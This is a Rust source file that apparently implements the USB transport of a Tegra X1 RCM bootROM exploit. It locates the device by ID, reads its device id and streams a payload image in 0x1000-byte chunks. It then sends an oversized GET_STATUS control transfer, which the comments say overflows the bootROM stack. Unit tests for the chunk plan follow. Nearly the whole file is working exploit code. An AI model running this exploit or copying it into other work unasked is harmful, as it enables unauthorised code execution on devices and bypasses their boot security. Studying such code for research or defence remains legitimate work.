//! USB transport for the RCM exploit.
//!
//! One [`Rcm`] value represents one exclusive claim on an attached
//! device, held for exactly one injection attempt. The bootROM protocol
//! is strictly ordered: the 16 byte device id must be read before any
//! payload data is accepted, the image is streamed in 0x1000 byte
//! chunks, and the final oversized GET_STATUS control transfer fires
//! the overflow. That last transfer is expected to fail or hang the
//! device; its outcome is ignored.

use crate::error::{Error, Result};
use crate::payload::PayloadBuffer;
use rusb::{Context, Device, DeviceHandle, Direction, Recipient, RequestType, UsbContext};
use std::cmp;
use std::time::Duration;

/// Default Tegra X1 vendor ID in RCM mode.
pub const RCM_VENDOR_ID: u16 = 0x0955;
/// Default Tegra X1 product ID in RCM mode.
pub const RCM_PRODUCT_ID: u16 = 0x7321;

const BULK_IN_ENDPOINT: u8 = 0x81;
const BULK_OUT_ENDPOINT: u8 = 0x01;

/// Size of one bulk chunk sent to the device.
pub const PAYLOAD_CHUNK_SIZE: usize = 0x1000;
/// Length requested by the trigger control transfer, far beyond what
/// the endpoint can really deliver.
pub const CONTROL_XFER_LENGTH: usize = 0x7000;

const DEVICE_ID_LENGTH: usize = 0x10;

const READ_TIMEOUT: Duration = Duration::from_millis(1000);
const WRITE_TIMEOUT: Duration = Duration::from_millis(5000);

/// 0x1000-aligned scratch holding one bulk chunk.
#[repr(C, align(4096))]
struct ChunkBuffer([u8; PAYLOAD_CHUNK_SIZE]);

/// 0x1000-aligned destination for the trigger control transfer.
#[repr(C, align(4096))]
pub struct ControlXferBuffer([u8; CONTROL_XFER_LENGTH]);

impl ControlXferBuffer {
    pub const fn new() -> Self {
        ControlXferBuffer([0; CONTROL_XFER_LENGTH])
    }
}

impl Default for ControlXferBuffer {
    fn default() -> Self {
        ControlXferBuffer::new()
    }
}

/// One exclusive claim on an attached RCM device.
pub struct Rcm {
    handle: DeviceHandle<Context>,
}

impl Rcm {
    /// Opens the device and claims its single interface.
    pub fn open(device: &Device<Context>) -> Result<Self> {
        let mut handle = device.open().map_err(open_error)?;
        handle.claim_interface(0).map_err(open_error)?;
        Ok(Rcm { handle })
    }

    /// Reads the 16 byte device id.
    ///
    /// The bootROM requires this read before it accepts any payload
    /// data; the content itself is only of informational value.
    pub fn read_device_id(&self) -> Result<[u8; DEVICE_ID_LENGTH]> {
        let mut device_id = [0; DEVICE_ID_LENGTH];

        let read = self
            .handle
            .read_bulk(BULK_IN_ENDPOINT, &mut device_id, READ_TIMEOUT)?;
        if read != DEVICE_ID_LENGTH {
            return Err(Error::InvalidDeviceId);
        }

        Ok(device_id)
    }

    /// Streams the assembled image to the device in fixed-size chunks.
    ///
    /// Returns the number of bytes pushed over the wire, which is the
    /// chunk plan of [`chunk_offsets`] and therefore usually larger
    /// than `used`; the trailing zero bytes are part of the image.
    pub fn write_payload(&mut self, buffer: &PayloadBuffer, used: usize) -> Result<usize> {
        let image = buffer.as_bytes();
        let mut chunk = ChunkBuffer([0; PAYLOAD_CHUNK_SIZE]);
        let mut written = 0;

        for offset in chunk_offsets(used) {
            let start = cmp::min(offset, image.len());
            let end = cmp::min(offset + PAYLOAD_CHUNK_SIZE, image.len());
            let length = end - start;

            chunk.0[..length].copy_from_slice(&image[start..end]);
            chunk.0[length..].fill(0);

            written += self
                .handle
                .write_bulk(BULK_OUT_ENDPOINT, &chunk.0, WRITE_TIMEOUT)?;
        }

        Ok(written)
    }

    /// Smashes the bootROM stack with an oversized GET_STATUS read on
    /// an endpoint recipient.
    ///
    /// The device is expected to hang or reset as a side effect, so the
    /// return code carries no information and is discarded.
    pub fn trigger(&self, scratch: &mut ControlXferBuffer) {
        let request_type =
            rusb::request_type(Direction::In, RequestType::Standard, Recipient::Endpoint);

        let _ = self.handle.read_control(
            request_type,
            rusb::constants::LIBUSB_REQUEST_GET_STATUS,
            0,
            0,
            &mut scratch.0,
            READ_TIMEOUT,
        );
    }
}

impl Drop for Rcm {
    fn drop(&mut self) {
        let _ = self.handle.release_interface(0);
    }
}

/// Finds an attached device matching the RCM filter.
pub fn find_rcm_device(context: &Context, vendor_id: u16, product_id: u16) -> Result<Device<Context>> {
    for device in context.devices()?.iter() {
        let descriptor = device.device_descriptor()?;

        if descriptor.vendor_id() == vendor_id && descriptor.product_id() == product_id {
            return Ok(device);
        }
    }

    Err(Error::NoDevice)
}

fn open_error(err: rusb::Error) -> Error {
    match err {
        rusb::Error::Access => Error::PermissionDenied,
        rusb::Error::NoDevice => Error::NoDevice,
        rusb::Error::Busy | rusb::Error::Timeout => Error::AlreadyInjected,
        err => Error::Usb(err),
    }
}

/// Offsets of the bulk chunks sent for an image with `used` data bytes.
///
/// The one-shot low-buffer flag starts set and toggles on every chunk;
/// the transfer stops once all data is out and the flag has cleared, so
/// the chunk count is odd and the device is left with its high DMA
/// buffer active for the trigger transfer. At least two chunks are
/// always sent even for an empty image: the bootROM's DMA engine needs
/// a minimum number of packets to drain its receive buffer.
pub(crate) fn chunk_offsets(used: usize) -> Vec<usize> {
    let mut offsets = Vec::new();
    let mut offset = 0;
    let mut low_buffer = true;

    loop {
        offsets.push(offset);
        offset += PAYLOAD_CHUNK_SIZE;
        low_buffer = !low_buffer;

        if offset >= used && !low_buffer && offsets.len() >= 2 {
            break;
        }
    }

    offsets
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::payload::MAX_PAYLOAD_LENGTH;

    #[test]
    fn empty_image_still_sends_multiple_chunks() {
        let offsets = chunk_offsets(0);
        assert!(offsets.len() >= 2);
        assert_eq!(offsets, vec![0, PAYLOAD_CHUNK_SIZE, 2 * PAYLOAD_CHUNK_SIZE]);
    }

    #[test]
    fn chunk_plan_covers_the_image() {
        for &used in &[
            1,
            PAYLOAD_CHUNK_SIZE - 1,
            PAYLOAD_CHUNK_SIZE,
            PAYLOAD_CHUNK_SIZE + 1,
            17 * PAYLOAD_CHUNK_SIZE,
            MAX_PAYLOAD_LENGTH,
        ] {
            let offsets = chunk_offsets(used);

            assert!(offsets.len() >= 2, "used = {:#x}", used);
            // Odd count: the transfer must end with the device's high
            // DMA buffer active.
            assert_eq!(offsets.len() % 2, 1, "used = {:#x}", used);

            // Contiguous chunk-aligned plan covering all data bytes.
            for (i, &offset) in offsets.iter().enumerate() {
                assert_eq!(offset, i * PAYLOAD_CHUNK_SIZE);
            }
            assert!(offsets.last().unwrap() + PAYLOAD_CHUNK_SIZE >= used);
        }
    }

    #[test]
    fn minimal_image_takes_seventeen_chunks() {
        // An image with only the mandatory regions is 0x102A8 bytes of
        // data; the device protocol sends it as exactly 17 chunks.
        let offsets = chunk_offsets(crate::payload::USER_PAYLOAD_OFFSET);
        assert_eq!(offsets.len(), 17);
    }

    #[test]
    fn aligned_buffers() {
        let chunk = ChunkBuffer([0; PAYLOAD_CHUNK_SIZE]);
        let scratch = ControlXferBuffer::new();
        assert_eq!(&chunk.0 as *const _ as usize % 0x1000, 0);
        assert_eq!(&scratch.0 as *const _ as usize % 0x1000, 0);
    }
}
